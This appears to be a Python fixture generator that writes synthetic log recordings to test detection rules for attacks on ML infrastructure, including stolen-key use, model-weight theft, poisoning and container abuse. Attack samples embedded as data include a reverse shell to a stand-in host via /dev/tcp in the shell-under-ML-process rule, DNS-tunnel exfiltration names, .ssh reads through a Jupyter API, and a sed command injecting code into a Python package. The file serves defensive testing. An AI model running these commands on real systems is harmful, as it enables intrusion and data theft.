"""Recordings of the rules about clouds, clusters, hosts and registries; `make_recordings.py` writes them."""

from datetime import timedelta

from make_recordings import HOUR, START, cloudtrail, envoy, execve, hubble, k8s, lines

DAY = 24 * HOUR


# Formats -----------------------------------------------------------------------------------------------------------

def s3(c, second, address, who, name, agent, signed=None, size=900_000_000):
    """A line of the server access log of S3; `signed` is how long a signed link lasts."""
    time = (START + timedelta(seconds=second)).strftime("%d/%b/%Y:%H:%M:%S +0000")
    query = ""
    if signed:
        query = (f"?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=ASIAEXAMPLE0000000{c.random.randint(10, 99)}%2F20261118%2Feu-west-1%2F"
                 f"s3%2Faws4_request&X-Amz-Expires={signed}&X-Amz-SignedHeaders=host&X-Amz-Signature={c.random.getrandbits(256):064x}")
    return (f"{'79a5' * 16} acme-models [{time}] {address} arn:aws:sts::123456789012:assumed-role/{who} {c.random.getrandbits(64):016X} "
            f'REST.GET.OBJECT {name} "GET /{name}{query} HTTP/1.1" 200 - {size} {size} 410 22 "-" "{agent}" - '
            f"bHVhc2Vk{c.random.getrandbits(64):016x}= SigV4 TLS_AES_128_GCM_SHA256 {'QueryString' if signed else 'AuthHeader'} "
            f"acme-models.s3.eu-west-1.amazonaws.com TLSv1.3 - -\n")


def mlflow(c, second, entity, action, data):
    """A webhook of MLflow's registry."""
    return {"entity": entity, "action": action, "timestamp": c.iso(second, 6).replace("Z", "+00:00"), "data": data}


def lineage(c, second, job, inputs, output):
    """The end of a run in OpenLineage."""
    base = {"_producer": "https://dagster.io", "_schemaURL": "https://openlineage.io/spec/facets/1-0-1/DatasetVersionDatasetFacet.json"}
    def dataset(name):
        return {"namespace": "s3://warehouse", "name": name, "facets": {"version": {**base, "datasetVersion": f"r{int(second // DAY)}"}}}
    return {"eventType": "COMPLETE", "eventTime": c.iso(second, 6), "run": {"runId": c.id(), "facets": {}},
            "job": {"namespace": "dagster", "name": job, "facets": {}}, "inputs": [dataset(name) for name in inputs],
            "outputs": [dataset(output)], "producer": "https://dagster.io",
            "schemaURL": "https://openlineage.io/spec/2-0-2/OpenLineage.json#/$defs/RunEvent"}


def pods(c, second, user, namespace, name, verb="get", sub=None, body=None, address="10.20.8.2"):
    """A person's request to a pod in the Kubernetes audit log."""
    record = k8s(c, second, user, name, "")
    record.update({"requestURI": f"/api/v1/namespaces/{namespace}/pods/{name}" + (f"/{sub}" if sub else ""), "verb": verb,
                   "sourceIPs": [address], "level": "Request" if body else "Metadata",
                   "objectRef": {"resource": "pods", "namespace": namespace, "name": name, "apiVersion": "v1"}})
    del record["requestObject"]
    if sub:
        record["objectRef"]["subresource"] = sub
        record["responseStatus"]["code"] = 200 if body else 101
    if body:
        record["requestObject"] = body
    return record


def ephemeral(image, rights=None):
    container = {"name": "debugger-x2", "image": image, "stdin": True, "tty": True, "targetContainerName": "server"}
    if rights:
        container["securityContext"] = rights
    return {"spec": {"ephemeralContainers": [container]}}


def started(c, second, parent, binary, arguments, pid, node="gpu-11"):
    """A program start of Tetragon; `parent` is (pid, binary, arguments)."""
    exec_id = lambda number: f"Z3B1LTEx{number:08d}Og=="
    above = {"exec_id": exec_id(parent[0]), "pid": parent[0], "uid": 1001, "cwd": "/srv", "binary": parent[1], "arguments": parent[2],
             "flags": "execve clone", "start_time": c.iso(0), "auid": 4294967295}
    return {"process_exec": {"process": {"exec_id": exec_id(pid), "pid": pid, "uid": 1001, "cwd": "/srv", "binary": binary,
                                         "arguments": arguments, "flags": "execve clone", "start_time": c.iso(second),
                                         "auid": 4294967295, "parent_exec_id": exec_id(parent[0])}, "parent": above},
            "node_name": node, "time": c.iso(second)}


def sysmon_start(c, second, host, user, program, hashes, parent):
    """A program start in the log of Sysmon; `program` and `parent` are (GUID, id, image, command line)."""
    return {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Hostname": host,
            "UtcTime": c.iso(second).replace("T", " ").rstrip("Z"), "ProcessGuid": program[0], "ProcessId": str(program[1]),
            "Image": program[2], "CommandLine": program[3], "CurrentDirectory": "C:\\Users\\ana\\", "User": user, "IntegrityLevel": "Medium",
            "Hashes": hashes, "ParentProcessGuid": parent[0], "ParentProcessId": str(parent[1]), "ParentImage": parent[2],
            "ParentCommandLine": parent[3], "ParentUser": user}


def asked(c, second, workload, name, kind="A"):
    """A question for a name, as Hubble shows it."""
    record = hubble(c, second, workload, ("kube-system", "coredns"), name, port=53)
    flow = record["flow"]
    flow["l4"] = {"UDP": {"source_port": c.random.randint(32768, 60999), "destination_port": 53}}
    flow["Type"] = "L7"
    flow["l7"] = {"type": "REQUEST", "dns": {"query": name + ".", "qtypes": [kind]}}
    del flow["destination_names"]
    return record


def written(c, second, serial, program, path):
    """A file that a program creates, in the enriched log of auditd."""
    stamp = f"msg=audit({int(START.timestamp()) + int(second)}.{c.random.randint(100, 999)}:{serial})"
    return (f"node=dev-7 type=SYSCALL {stamp}: arch=c000003e syscall=257 success=yes exit=4 a0=ffffff9c a1=7f3 a2=241 a3=1b6 items=2 "
            f"ppid=3990 pid={4000 + serial % 20000} auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 "
            f'fsgid=1000 tty=pts0 ses=3 comm="{program.rsplit("/", 1)[-1][:15]}" exe="{program}" subj=unconfined key="py-write"\n'
            f'node=dev-7 type=CWD {stamp}: cwd="/srv/app"\n'
            f'node=dev-7 type=PATH {stamp}: item=1 name="{path}" inode={c.random.randint(1000, 9999)} dev=fd:00 mode=0100644 ouid=1000 '
            f"ogid=1000 rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\n"
            f"node=dev-7 type=EOE {stamp}: \n")


# Rules -------------------------------------------------------------------------------------------------------------

def stranger(c, attack):
    bedrock, model = "bedrock.amazonaws.com", {"modelId": "amazon.nova-lite-v1:0"}
    records = []
    def call(second, role, action, address, agent):
        record = cloudtrail(c, second, role, bedrock, action, model, True)
        record.update({"sourceIPAddress": address, "userAgent": agent})
        records.append(record)
    old, new = "Boto3/1.40.1 md/Botocore#1.40.1 ua/2.1", "Boto3/1.42.0 md/Botocore#1.42.0 ua/2.1"
    for hour in range(0, 120, 4):
        call(hour * HOUR, "shelf-vision", "InvokeModel", "198.51.100.24", old)
        call(hour * HOUR + 60, "price-bot", "InvokeModel", "198.51.100.40", old)
    # Both services change one thing each: one is updated, one moves.
    call(121 * HOUR, "price-bot", "InvokeModel", "198.51.100.40", new)
    call(122 * HOUR, "shelf-vision", "InvokeModel", "198.51.100.25", old)
    if attack:
        for n in range(4):
            call(123 * HOUR + n * 30, "shelf-vision", "InvokeModelWithResponseStream", "203.0.113.71", "aws-sdk-rust/1.3.9 os/macos lang/rust/1.91")
    records.sort(key=lambda record: record["eventTime"])
    return {"cloudtrail.jsonl": lines(records)}


def signed_link(c, attack):
    log = []
    for day in range(4):
        for part in (1, 2):
            log.append(s3(c, day * DAY + 4 * HOUR + part * 60, "10.3.1.8", "endpoint/vision", f"vision/weights-{part}.gguf", "Boto3/1.41.0"))
    # A tracker hands out links inside, and a customer gets the licence by one.
    log.append(s3(c, 4 * DAY, "10.3.9.4", "tracker/ui", "vision/weights-1.gguf", "python-requests/2.32.3", signed=900))
    log.append(s3(c, 4 * DAY + 60, "203.0.113.18", "sales/marta", "vision/LICENSE.txt", "Mozilla/5.0 (Macintosh)", signed=3600, size=9000))
    if attack:
        log += [s3(c, 4 * DAY + 600 + part * 90, "203.0.113.30", "interns/viktor", f"vision/weights-{part}.gguf", "curl/8.12.1", signed=518400)
                for part in (1, 2)]
    return {"access.log": "".join(log)}


def out_of_order(c, attack):
    records = []
    def version(second, number, steps):
        name = {"name": "return-risk", "version": str(number)}
        bodies = {"made": ("model_version", "created", {**name, "source": f"models:/m-{c.random.getrandbits(64):016x}", "run_id": f"{c.random.getrandbits(64):016x}",
                                                        "tags": {}, "description": None}),
                  "gate": ("model_version_tag", "set", {**name, "key": "bias_check", "value": "ok"}),
                  "live": ("model_version_alias", "created", {**name, "alias": "champion"})}
        for n, step in enumerate(steps):
            records.append(mlflow(c, second + n * 900, *bodies[step]))
    for number in range(1, 9):
        version(number * 12 * HOUR, number, ("made", "gate", "live"))
    version(110 * HOUR, 9, ("made", "live") if attack else ("made", "gate", "live"))
    return {"mlflow.jsonl": lines(records)}


def first_input(c, attack):
    records = []
    for day in range(7):
        records.append(lineage(c, day * DAY + 3 * HOUR, "returns.features", ["returns/orders", "returns/parcels"], "returns/features"))
        # A job with another partition each day has new inputs all the time.
        records.append(lineage(c, day * DAY + 4 * HOUR, "clicks.features", [f"clicks/day={day}", f"pages/day={day}"], "clicks/features"))
    extra = ["imports/partner-drop"] if attack else []
    records.append(lineage(c, 7 * DAY + 3 * HOUR, "returns.features", ["returns/orders", "returns/parcels", *extra], "returns/features"))
    records.append(lineage(c, 7 * DAY + 4 * HOUR, "clicks.features", ["clicks/day=7", "pages/day=7"], "clicks/features"))
    return {"lineage.jsonl": lines(records)}


def debug_container(c, attack):
    own = ephemeral("registry.corp.example/tools/inspect:3")
    bad = ephemeral("registry.corp.example/tools/inspect:3", {"capabilities": {"add": ["SYS_PTRACE"]}})
    records = [pods(c, n * HOUR, "ops@corp.example", "models", "ranker-0") for n in range(12)]
    records.append(pods(c, 13 * HOUR, "ops@corp.example", "models", "ranker-0", "patch", "ephemeralcontainers", bad if attack else own))
    if attack:
        public = ephemeral("busybox:1.37")
        records.append(pods(c, 14 * HOUR, "ops@corp.example", "models", "ranker-1", "patch", "ephemeralcontainers", public))
    return {"audit.jsonl": lines(records)}


def first_hands(c, attack):
    known, stranger_ = "ops@corp.example", "temp4@corp.example"
    records = []
    for day in range(4):
        for namespace in ("models", "models-staging"):
            records.append(pods(c, day * DAY + 9 * HOUR, known, namespace, "ranker-0"))
            records.append(pods(c, day * DAY + 9 * HOUR + 60, known, namespace, "ranker-0", "create", "exec"))
    place = "models" if attack else "models-staging"
    records.append(pods(c, 4 * DAY, stranger_, place, "ranker-0", address="10.20.9.9"))
    records.append(pods(c, 4 * DAY + 40, stranger_, place, "ranker-0", "create", "exec", address="10.20.9.9"))
    if not attack:
        # In the namespace in service the new person only looks.
        records.append(pods(c, 4 * DAY + 90, stranger_, "models", "ranker-0", address="10.20.9.9"))
    return {"audit.jsonl": lines(records)}


def job_caller(c, attack):
    hub, studio, shop = ("lab", "jupyter"), ("lab", "studio"), ("shop", "storefront")
    records = []
    for hour in range(0, 60, 3):
        records.append(envoy(c, hour * HOUR, studio, hub, "/api/kernels"))
        records.append(envoy(c, hour * HOUR + 30, studio, hub, "/api/sessions", method="GET"))
    if attack:
        records.append(envoy(c, 61 * HOUR, shop, hub, "/api/contents/.ssh", method="GET"))
        records.append(envoy(c, 61 * HOUR + 10, shop, hub, "/api/terminals"))
    else:
        records.append(envoy(c, 61 * HOUR, shop, hub, "/healthz", method="GET"))
        records.append(envoy(c, 61 * HOUR + 10, studio, hub, "/api/contents/plan.ipynb", method="GET"))
    return {"inbound.jsonl": lines(records)}


def shell_under(c, attack):
    server = (700, "/usr/bin/python3.12", "/usr/local/bin/vllm serve ranker")
    login = (701, "/bin/bash", "--login")
    records = [started(c, 60, server, "/usr/bin/nvidia-smi", "--query-gpu=memory.used --format=csv", 801),
               started(c, 90, server, "/bin/sh", "-c \"curl -fsS http://localhost:8000/health\"", 802),
               started(c, 120, login, "/usr/bin/wget", "-q https://get.corp.example/setup.sh", 803)]
    if attack:
        records.append(started(c, 300, server, "/bin/bash", "-c \"bash -i >& /dev/tcp/203.0.113.40/9001 0>&1\"", 804))
    else:
        records.append(started(c, 300, server, "/bin/sh", "-c \"ldconfig -p\"", 804))
    return {"tetragon.jsonl": lines(records)}


def dns(c, attack):
    ranker, mailer = ("models", "ranker"), ("shop", "mailer")
    records = []
    for n in range(12):
        records.append(asked(c, n * 100, ranker, f"build-artifacts-cache-eu-west-{n}.cdn.corp-registry.example"))
        records.append(asked(c, n * 100 + 9, mailer, "selector1._domainkey.partner.example", "TXT"))
        if attack:
            piece = f"{c.random.getrandbits(200):050x}"
            records.append(asked(c, n * 100 + 20, ranker, f"{piece}.{n}.u.pixel-sync.example", "AAAA"))
    if not attack:
        # A digest in a name, asked for again and again, is one name.
        records += [asked(c, 1500 + n * 30, ranker, "3f9a41c07d5be2280c6f9a11d4e7b3a5.layers.example") for n in range(9)]
    return {"flows.jsonl": lines(sorted(records, key=lambda record: record["time"]))}


def startup_hook(c, attack):
    libraries = "/srv/venv/lib/python3.13/site-packages"
    log = execve(c, 0, 7100, 1000, "ana", ["/usr/bin/python3.13", "-m", "pip", "install", "polars"])
    log += written(c, 4, 7101, "/usr/bin/python3.13", f"{libraries}/polars/__init__.py")
    log += written(c, 5, 7102, "/usr/bin/python3.13", f"{libraries}/distutils-precedence.pth")
    log += execve(c, 60, 7103, 1000, "ana", ["/usr/bin/cp", f"{libraries}/polars/config.py", "/tmp/config.py"])
    log += written(c, 61, 7104, "/usr/bin/cp", "/tmp/config.py")
    if attack:
        log += execve(c, 400, 7105, 1000, "ana", ["/usr/bin/sed", "-i", "1i import os", f"{libraries}/polars/__init__.py"])
        log += written(c, 401, 7106, "/usr/bin/sed", f"{libraries}/polars/__init__.py")
    else:
        log += execve(c, 400, 7105, 1000, "ana", ["/usr/bin/grep", "-rn", "import os", f"{libraries}/polars/__init__.py"])
    return {"audit.log": log}


def server_child(c, attack):
    server = (520, "/usr/bin/python3.12", "/home/ana/.local/bin/uvx tasks-mcp-server --stdio")
    build = (530, "/usr/bin/node", "/home/ana/.npm/_npx/77/node_modules/.bin/build-mcp")
    records = []
    for day in range(5):
        records.append(started(c, day * DAY + 8 * HOUR, server, "/usr/bin/rg", "--json todo", 900 + day, "dev-3"))
        # A build server starts another tool each time.
        for n in range(6):
            records.append(started(c, day * DAY + 9 * HOUR + n, build, f"/opt/tools/step{day * 6 + n}", "run", 1000 + day * 6 + n, "dev-3"))
    records.append(started(c, 5 * DAY, server, "/usr/bin/python3.12" if attack else "/usr/bin/rg",
                           "-c \"import zipfile\"" if attack else "--json fixme", 950, "dev-3"))
    records.append(started(c, 5 * DAY + 60, build, "/opt/tools/step99", "run", 1200, "dev-3"))
    return {"tetragon.jsonl": lines(records)}


RULES = {
    "credential_access/stranger-with-known-key": stranger,
    "model_theft/signed-link-download": signed_link,
    "model_poisoning/version-out-of-order": out_of_order,
    "data_poisoning/first-training-input": first_input,
    "infrastructure/debug-container": debug_container,
    "infrastructure/first-hands-in-namespace": first_hands,
    "infrastructure/first-job-caller": job_caller,
    "infrastructure/shell-under-ml-process": shell_under,
    "model_theft/dns-tunnel": dns,
    "tool_shadowing/python-startup-hook": startup_hook,
    "tool_poisoning/server-starts-something-new": server_child,
}
